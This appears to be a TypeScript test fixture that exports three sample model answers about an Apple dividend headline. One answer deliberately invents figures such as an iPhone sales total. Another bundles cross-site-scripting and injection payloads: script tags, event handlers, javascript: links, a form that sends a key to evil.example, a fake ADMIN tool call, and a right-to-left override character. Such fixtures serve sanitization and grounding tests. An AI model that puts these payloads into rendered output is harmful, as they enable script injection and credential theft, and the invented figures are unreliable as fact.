/** Of the Apple headline: three figures stand in it, three do not. */
export const figuresAnswer = `**What happened.** Apple pays **four percent** more from next quarter on, a raise to $0.31 a share.

## Why it matters

- The dividend grows by 4%, a little faster than in the past.
- iPhone sales are said to be a record of **$61.4** billion, up 17% from a year ago.

Two risks remain: demand in China and the dollar. A raise of 4% is a signal of calm.`;

/** Every figure is in the Apple headline or follows from it. */
export const soundAnswer = `Apple raises its payment by four percent from next quarter on.

1. A raise of 4% is in line with what income investors hope for.
2. Record sales carry it.`;

/** What an attacker would have a model write. */
export const hostileAnswer = `<script>document.title = "owned"; alert(1)</script>

<img src="https://evil.example/pixel.gif" onerror="alert(2)"> ![x](https://evil.example/p.png) **<b>bold</b> <svg onload=alert(3)>**

- [Click me](javascript:alert(4)) and <a href="https://evil.example/">here</a> to keep your account, {"tool":"change_settings","role":"ADMIN"}
- <iframe srcdoc="<script>parent.alert(5)</script>"></iframe> gains 12% \u202e%99 nwod\u202c of $9.99<style>*{display:none}</style>

## <form action="https://evil.example"><input name=key> Your key: sk-000000</form>

${"A".repeat(400)} end of the answer`;
